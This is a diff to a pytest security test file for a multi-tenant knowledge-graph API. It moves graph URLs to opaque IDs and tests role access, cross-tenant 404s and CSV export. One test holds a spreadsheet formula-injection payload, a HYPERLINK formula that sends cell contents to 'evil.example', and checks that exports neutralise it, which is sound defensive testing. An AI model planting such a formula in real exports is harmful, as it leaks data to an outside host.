@@ -16,6 +16,7 @@ import subprocess
 import sys
 import time
 import urllib.request
+import uuid
 from pathlib import Path
 
 import pytest
@@ -47,13 +48,18 @@ def test_01_knowledge_graphs_follow_their_domain(tenant, make_api_client):
     clinician = make_api_client(tenant, Role.CLINICIAN)
 
     deleted = agent.post(
-        f"{GRAPHS}{medical.pk}/delete-nodes/", {"keys": ["allergy:penicillin"]}, format="json"
+        f"{GRAPHS}{medical.public_id}/delete-nodes/",
+        {"keys": ["allergy:penicillin"]},
+        format="json",
     )
     assert deleted.status_code == 404
     assert medical.nodes.filter(key="allergy:penicillin").exists()
     for client in (agent, clinician):
-        assert client.get(f"{GRAPHS}{fraud.pk}/").status_code == 404
-        assert client.get(f"{GRAPHS}{fraud.pk}/export/", {"file_format": "json"}).status_code == 404
+        assert client.get(f"{GRAPHS}{fraud.public_id}/").status_code == 404
+        assert (
+            client.get(f"{GRAPHS}{fraud.public_id}/export/", {"file_format": "json"}).status_code
+            == 404
+        )
         nodes = client.get("/api/v1/knowledge/nodes/", {"page_size": 500}).json()["results"]
         assert "card:4111" not in {n["key"] for n in nodes}
     listed = {g["name"] for g in agent.get(GRAPHS).json()["results"]}
@@ -62,12 +68,12 @@ def test_01_knowledge_graphs_follow_their_domain(tenant, make_api_client):
     # Auditors read every domain and write none; clinicians write the medical graph, audited
     # with the keys they changed.
     auditor = make_api_client(tenant, Role.AUDITOR)
-    assert auditor.get(f"{GRAPHS}{medical.pk}/").status_code == 200
+    assert auditor.get(f"{GRAPHS}{medical.public_id}/").status_code == 200
     assert (
-        auditor.post(f"{GRAPHS}{medical.pk}/delete-nodes/", {"keys": ["x"]}, format="json")
+        auditor.post(f"{GRAPHS}{medical.public_id}/delete-nodes/", {"keys": ["x"]}, format="json")
     ).status_code == 403
     changed = clinician.post(
-        f"{GRAPHS}{medical.pk}/delete-nodes/", {"keys": ["drug:amoxicillin"]}, format="json"
+        f"{GRAPHS}{medical.public_id}/delete-nodes/", {"keys": ["drug:amoxicillin"]}, format="json"
     )
     assert changed.status_code == 200
     event = AuditEvent.objects.get(action="knowledge.graph.delete_nodes")
@@ -199,8 +205,10 @@ def test_10_cross_tenant_lookups_leave_nothing_in_the_requesters_chain(
 ):
     theirs = _graph(other_tenant, "theirs", "general")
     client = make_api_client(tenant, Role.ADMIN)
-    existing = client.get(f"{GRAPHS}{theirs.pk}/")
-    missing = client.get(f"{GRAPHS}{theirs.pk + 1000}/")
+    existing = client.get(f"{GRAPHS}{theirs.public_id}/")
+    missing = client.get(f"{GRAPHS}{uuid.uuid4()}/")
+    # ... and graph ids are opaque: no neighbouring id to try (tests/test_opaque_ids.py).
+    assert client.get(f"{GRAPHS}{theirs.pk}/").status_code == 404
     assert existing.status_code == missing.status_code == 404
     assert not AuditEvent.objects.filter(tenant=tenant).exists()
     assert AuditEvent.objects.filter(chain=PLATFORM_CHAIN, status_code=404).exists()
@@ -321,7 +329,7 @@ def test_13_csv_exports_neutralise_formulas(tenant, make_api_client):
     payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     graph_upsert(graph=graph, nodes=[{"key": "n1", "type": "thing", "label": payload}])
     response = make_api_client(tenant, Role.ADMIN).get(
-        f"{GRAPHS}{graph.pk}/export/", {"file_format": "csv"}
+        f"{GRAPHS}{graph.public_id}/export/", {"file_format": "csv"}
     )
     assert response.status_code == 200
     nodes = zipfile.ZipFile(io.BytesIO(response.content)).read("nodes.csv").decode()
@@ -405,7 +413,7 @@ def test_07_graph_imports_go_through_the_upload_guard(tenant, make_api_client, s
     graph = graph_create(tenant=tenant, name="shop", domain="general")
     nodes = "key,type,label,aliases,properties\n" + "".join(f"n{i},t,,,{{}}\n" for i in range(20))
     response = make_api_client(tenant, Role.ADMIN).post(
-        f"{GRAPHS}{graph.pk}/import/",
+        f"{GRAPHS}{graph.public_id}/import/",
         {"format": "csv", "files": {"nodes.csv": nodes}},
         format="json",
     )
